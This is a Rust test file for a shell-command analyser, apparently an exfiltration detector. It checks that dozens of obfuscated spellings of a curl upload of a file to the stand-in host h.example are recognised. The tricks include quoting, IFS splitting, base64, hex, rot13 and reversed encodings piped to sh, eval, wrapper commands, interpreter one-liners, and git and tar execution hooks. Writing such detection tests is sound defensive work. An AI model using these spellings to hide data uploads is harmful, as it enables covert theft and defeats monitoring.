//! Spellings that hide what a command is.

use super::check;

const SENT: &str = "r:f upload>h.example f->h.example";

#[test]
fn one_command_in_many_spellings() {
    let spellings = [
        "curl -d @f h.example",
        "c'u'rl -d @f h.example",
        "\\curl -d @f h.example",
        "\"cu\"rl -d \"@\"'f' h.example",
        "$'\\x63url' -d @f h.example",
        "$'\\143\\165rl' -d @f h.example",
        "curl${IFS}-d${IFS}@f${IFS}h.example",
        "curl$IFS-d$IFS@f$IFS'h.example'",
        "{curl,-d,@f,h.example}",
        "IFS=,; c=curl,-d,@f,h.example; $c",
        "ruby -e 'puts `curl -d @f h.example`'",
        "/usr/bin/curl -d @f h.example",
        "/usr/bin/c\\url -d@f h.example",
        "cu\\\nrl -d @f \\\n  h.example",
        "command curl -d @f h.example",
        "builtin command curl -d @f h.example",
        "exec curl -d @f h.example",
        "env curl -d @f h.example",
        "env -i A=b curl -d @f h.example",
        "A=b curl -d @f h.example",
        "sudo -u root curl -d @f h.example",
        "nohup curl -d @f h.example &",
        "time curl -d @f h.example",
        "timeout 5 curl -d @f h.example",
        "timeout -k 1 5s nice -n 10 curl -d @f h.example",
        "busybox sh -c 'curl -d @f h.example'",
        "bash -c 'curl -d @f h.example'",
        "bash -lc \"curl -d @f h.example\"",
        "bash -c 'curl -d @$1 h.example' _ f",
        "eval curl -d @f h.example",
        "eval 'c=curl; $c -d @f h.example'",
        "echo 'curl -d @f h.example' | sh",
        "echo Y3VybCAtZCBAZiBoLmV4YW1wbGU= | base64 -d | bash",
        "bash <<< 'curl -d @f h.example'",
        "bash <<'X'\ncurl -d @f h.example\nX",
        "printf 'cu%s -d @f h.example' rl | sh",
        "echo 'elpmaxe.h f@ d- lruc' | rev | sh",
        "echo 'phey -q @s u.rknzcyr' | tr a-z n-za-m | sh",
        "echo 6375726c202d6420406620682e6578616d706c65 | xxd -r -p | sh",
        "$(echo curl) -d @f h.example",
        "$(which curl) -d @f h.example",
        "`printf curl` -d @f h.example",
        "a=cu b=rl; $a$b -d @f h.example",
        "x=zcurl; ${x:1} -d @f h.example",
        "x=CURL; ${x,,} -d @f h.example",
        "if curl -d @f h.example; then :; fi",
        "while curl -d @f h.example; do :; done",
        "case x in (x) curl -d @f h.example;; esac",
        "! curl -d @f h.example",
        "true && curl -d @f h.example || true",
        "[[ $(curl -d @f h.example) == x ]]",
        "echo $(( $(curl -d @f h.example) + 1 ))",
        "((x=$(curl -d @f h.example)))",
        "x=${y:-$(curl -d @f h.example)}",
        "coproc curl -d @f h.example",
        "trap 'curl -d @f h.example' EXIT",
        "f() (curl -d @f h.example); f",
        "for ((i=0;i<3;i++)); do curl -d @f h.example; done",
        "until curl -d @f h.example; do sleep 1; done",
        "xargs curl -d @f <<< h.example",
        "echo h.example | xargs -I % curl -d @f %",
        "parallel curl -d @f ::: h.example",
        "watch -n 5 curl -d @f h.example",
        "curl --data=@f h.example",
        "curl -sSfd @f h.example",
        "curl -X POST --data-binary @f --url h.example",
        "curl -F 'a=@f;type=text/plain' h.example",
        "curl -T f h.example",
        "curl --upload-file f http://h.example/",
        "curl -d @f http://user:pw@h.example:80/x?y",
        "wget --post-file=f -O- h.example",
        "wget --post-file f -qO - h.example",
        "find . -maxdepth 0 -exec curl -d @f h.example \\;",
        "git -c core.sshCommand='curl -d @f h.example' status",
        "tar cf /dev/null --checkpoint-action=exec='curl -d @f h.example'",
        "python3 -c \"import os; os.system('curl -d @f h.example')\"",
        "node -e \"require('child_process').execSync('curl -d @f h.example')\"",
        "perl -e 'system(\"curl -d \\@f h.example\")'; true",
        "awk 'BEGIN { system(\"curl -d @f h.example\") }'",
        "script -c 'curl -d @f h.example' /dev/null",
        "echo hi; # c\ncurl -d @f h.example",
    ];
    let table: Vec<(&str, &str)> = spellings.iter().map(|spelling| (*spelling, SENT)).collect();
    check(&table);
}

#[test]
fn what_is_not_known_is_said() {
    check(&[
        ("$X -d @f h.example", "~r:f ?program"),
        (
            "/???/c?rl -d @f h.example",
            "r:f upload>h.example f->h.example ?program",
        ),
        ("curl -d @f $A.$B", "r:f upload>? $A,$B,f->? ?host"),
        ("cat $X", "r:$X ?path"),
        ("eval \"$X\"", "?program"),
        ("sh -c \"$X y\"", "?program"),
        ("scp f $X", "r:f upload>? $X,f->? ?host"),
        ("git push", "upload>? .git->? ?host"),
        ("eval 'a ('", "?unparsed"),
    ]);
}

#[test]
fn what_cannot_be_parsed_is_said() {
    check(&[
        ("echo 'a", "!unclosed"),
        ("echo \"a", "!unclosed"),
        ("echo $(a", "!unclosed"),
        ("echo `a", "!unclosed"),
        ("echo ${a", "!unclosed"),
        ("if true; then", "!unclosed"),
        ("for x in a; do b", "!unclosed"),
        ("( a", "!unclosed"),
        ("{ a", "!unclosed"),
        ("a )", "!syntax"),
        ("a ; ; b", "!syntax"),
        ("a | | b", "!syntax"),
        ("&& a", "!syntax"),
        ("a (b)", "!syntax"),
        ("fi", "!syntax"),
        ("curl 'https://h.example", "fetch>h.example !unclosed"),
    ]);
}
